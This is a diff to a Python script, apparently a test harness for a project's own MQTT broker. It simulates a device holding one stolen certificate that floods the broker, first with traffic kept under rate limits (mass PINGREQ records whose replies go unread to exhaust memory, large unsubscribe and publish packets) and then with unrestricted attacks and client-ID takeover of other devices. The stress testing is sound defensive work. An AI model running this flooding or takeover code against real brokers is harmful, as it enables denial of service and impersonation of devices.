@@ -1,6 +1,7 @@
 """Somebody with the certificate of one device, who does his worst until he is ended: each of his threads speaks MQTT 5 by hand,
-as fast as it can, and connects again whenever the broker ends its connection. Prints how often it did what when it is told to
-end by a line on standard input.
+and connects again whenever the broker ends its connection. At first he does as much as no limit forbids, since an identity that
+does too much that is denied is suspended; after the line "rage" on standard input he does everything, as fast as he can. After
+the next line he ends, and prints how often he did what.
 
 attacker.py PORT CERTIFICATE: CERTIFICATE is a JSON object of settings; its name is the device's ID."""
 
@@ -16,8 +17,10 @@ import time
 
 PORT, CERTIFICATE = int(sys.argv[1]), json.loads(sys.argv[2])
 OWN = CERTIFICATE["name"]
-PAUSE_S = 0.02
-counts, ends = collections.Counter(), threading.Event()
+PAUSE_S, PATIENT_PERIOD_S = 0.02, 1
+PINGS_A_RECORD = 8000  # of TLS, which has 16 KiB: the broker answers all of them before it reads from another connection
+PINGS = b"\xc0\0" * PINGS_A_RECORD
+counts, rages, ends = collections.Counter(), threading.Event(), threading.Event()
 numbers = itertools.count()
 
 
@@ -99,13 +102,50 @@ def speak_for_others(link):
                for n in range(5000) for kind in ("ask", "reply", "instruction", "confirm"))
 
 
+def is_patient():
+    return not rages.is_set() and not ends.is_set()
+
+
+# ---- what no limit forbids ----
+
+def ask_in_time(link):
+    """The largest asks and reports, as often as the guard takes them."""
+    versions = json.dumps({"versions": {f"app-{n}": "9" * 60 for n in range(64)}, "nonce": "n1"}).encode()
+    number = 0
+    while is_patient():
+        number = number % 65000 + 1
+        link.flood([publish(f"tc/v1/device/{OWN}/reply", b"{" * 30000, 1, number=number)] * 2)
+        link.flood([publish(f"tc/v1/device/{OWN}/ask", versions)])
+        link.flood([publish(f"tc/v1/device/{OWN}/presence", b" " * 1000, 1, True, number)])
+        rages.wait(PATIENT_PERIOD_S)
+
+
+def ping_much(link):
+    """And reads no answer, so that they fill the broker's memory."""
+    while is_patient():
+        link.flood([PINGS])
+        counts["pings"] += PINGS_A_RECORD
+
+
+def unsubscribe_much(link):
+    filters = b"".join(text(f"tc/v1/device/{n}/ask") for n in range(500))
+    while is_patient():
+        link.flood([packet(0xA2, b"\0\1\0" + filters)])
+
+
+PATIENT_ACTS = [ask_in_time, ping_much, unsubscribe_much]
+
+# ---- and the rest ----
+
 ACTS = [join_shares, ask_much, ask_badly, report_much, retain_large, speak_for_others]
 
 
 def act_for_ever(act):
-    while not ends.is_set():
+    if act not in PATIENT_ACTS:
+        rages.wait()
+    while is_patient() if act in PATIENT_ACTS else not ends.is_set():
         try:
-            link = Link(f"{OWN}/{next(numbers)}", "tc/v1/device/A1/presence")
+            link = Link(f"{OWN}/{next(numbers)}", f"tc/v1/device/{OWN if act in PATIENT_ACTS else 'A1'}/presence")
             counts["connected"] += 1
             act(link)
             link.close()
@@ -116,6 +156,7 @@ def act_for_ever(act):
 
 def take_over():
     """Connects with the client IDs of others."""
+    rages.wait()
     for victim in itertools.cycle([f"A{n}" for n in range(9)] + ["B1", "central", "orchestrator-1-in"]):
         if ends.is_set():
             return
@@ -129,10 +170,12 @@ def take_over():
 
 def main():
     os.nice(5)
-    threads = [threading.Thread(target=act_for_ever, args=(act,), daemon=True) for act in ACTS]
+    threads = [threading.Thread(target=act_for_ever, args=(act,), daemon=True) for act in PATIENT_ACTS + ACTS]
     threads.append(threading.Thread(target=take_over, daemon=True))
     for thread in threads:
         thread.start()
+    sys.stdin.readline()
+    rages.set()
     sys.stdin.readline()
     ends.set()
     print(json.dumps(counts), flush=True)
